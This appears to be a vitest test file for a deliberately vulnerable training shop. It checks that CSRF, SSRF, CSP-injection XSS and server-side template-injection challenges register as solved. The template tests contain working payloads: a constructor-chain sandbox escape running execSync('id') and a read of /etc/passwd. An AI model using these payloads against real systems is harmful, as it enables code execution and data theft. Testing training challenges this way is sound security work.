import type { AddressInfo } from 'node:net'
import request from 'supertest'
import { afterAll, describe, expect, it } from 'vitest'
import { createTestShop } from '../../test-support/test-shop.js'

const t = createTestShop()
// A real listener, so the profile-image fetcher has the shop's own port to call back.
const server = t.shop.app.listen(0, '127.0.0.1')
afterAll(() => { server.close() })
const api = request(server)
const port = (): number => (server.address() as AddressInfo).port

async function cookieFor (email: string, password: string): Promise<string> {
  const res = await api.post('/rest/user/login').send({ email, password })
  return `token=${res.body.authentication.token as string}`
}

describe('csrfRenameChallenge', () => {
  it('is not solved by a rename from the profile page itself', async () => {
    const cookie = await cookieFor(t.email('qa.bot'), 'Qa-Bot-Smoke-1')
    const res = await api.post('/profile').set('Cookie', cookie).set('Origin', `http://127.0.0.1:${port()}`).type('form').send({ username: 'qa-tester' })
    expect(res.status).toBe(303)
    expect(await t.solved('csrfRenameChallenge')).toBe(false)
  })

  it('is solved by a form posted from another page with only the cookie', async () => {
    const cookie = await cookieFor(t.email('qa.bot'), 'Qa-Bot-Smoke-1')
    // An attack page on another port of the same host posts the plain form; the browser adds the cookie.
    const res = await api.post('/profile').set('Cookie', cookie).set('Origin', 'http://127.0.0.1:4444').type('form').send({ username: 'renamed-by-someone-else' })
    expect(res.status).toBe(303)
    expect((await api.get('/profile').set('Cookie', cookie)).text).toContain('renamed-by-someone-else')
    expect(await t.solved('csrfRenameChallenge')).toBe(true)
  })
})

describe('ssrfChallenge', () => {
  it('is not solved by an ordinary image of the shop', async () => {
    const cookie = await cookieFor(t.email('qa.bot'), 'Qa-Bot-Smoke-1')
    const res = await api.post('/profile/image/url').set('Cookie', cookie).type('form')
      .send({ imageUrl: `http://localhost:${port()}/assets/public/images/uploads/first-job-2009.jpg` })
    expect(res.status).toBe(303)
    expect(await t.solved('ssrfChallenge')).toBe(false)
  })

  it('makes the profile-image fetcher call the loopback-only stock sync', async () => {
    expect((await api.get('/internal/stock-sync')).status).toBe(404)
    const cookie = await cookieFor(t.email('qa.bot'), 'Qa-Bot-Smoke-1')
    const res = await api.post('/profile/image/url').set('Cookie', cookie).type('form')
      .send({ imageUrl: `http://localhost:${port()}/internal/stock-sync` })
    // The answer is no image, so the page says so; the request was made all the same.
    expect(res.status).toBe(415)
    expect(res.type).toBe('text/html')
    expect(await t.solved('ssrfChallenge')).toBe(true)
  })
})

describe('profileCspXssChallenge', () => {
  it('injects a script-src through the image URL and slips a script past the filter', async () => {
    const cookie = await cookieFor(t.email('qa.bot'), 'Qa-Bot-Smoke-1')
    await api.post('/profile').set('Cookie', cookie).type('form').send({ username: '<script>alert(1)</script>' })
    expect((await api.get('/profile').set('Cookie', cookie)).text).not.toContain('<script>alert(1)')

    await api.post('/profile/image/url').set('Cookie', cookie).type('form')
      .send({ imageUrl: "https://images.example/me.png; script-src 'unsafe-inline'" })
    await api.post('/profile').set('Cookie', cookie).type('form').send({ username: '<SCRIPT>alert(`xss`)</SCRIPT>' })
    expect(await t.solved('profileCspXssChallenge')).toBe(false)

    const page = await api.get('/profile').set('Cookie', cookie)
    expect(page.headers['content-security-policy']).toBe("img-src 'self' https://images.example/me.png; script-src 'unsafe-inline'; script-src 'self'")
    expect(page.text).toContain('<SCRIPT>alert(`xss`)</SCRIPT>')
    expect(await t.solved('profileCspXssChallenge')).toBe(true)
  })
})

describe('profileTemplateInjectionChallenge', () => {
  const rename = async (cookie: string, username: string) => {
    expect((await api.post('/profile').set('Cookie', cookie).type('form').send({ username })).status).toBe(303)
    return (await api.get('/profile').set('Cookie', cookie)).text
  }

  it('evaluates {{ }} in the sandbox; process, require and files give only the decoys', async () => {
    const cookie = await cookieFor(t.email('qa.bot'), 'Qa-Bot-Smoke-1')
    expect(await rename(cookie, 'Sum {{ 6 * 7 }}')).toContain('Sum 42')
    expect(await rename(cookie, "{{ this.constructor.constructor('return process')().cwd() }}")).toContain('/srv/pulp-juice-shop')
    expect(await rename(cookie, "{{ require('fs').readFileSync('/etc/passwd').split('\\n')[3] }}")).toContain('pulp:x:1001')
    expect(await rename(cookie, "{{ typeof require('http') }}")).toContain("[Error: Cannot find module 'http']")
    expect(await t.solved('profileTemplateInjectionChallenge')).toBe(false)

    const page = await rename(cookie, "{{ this.constructor.constructor('return process')().mainModule.require('child_process').execSync('id') }}")
    expect(page).toContain('uid=1001(pulp) gid=1001(pulp)')
    expect(await t.solved('profileTemplateInjectionChallenge')).toBe(true)
  })
})
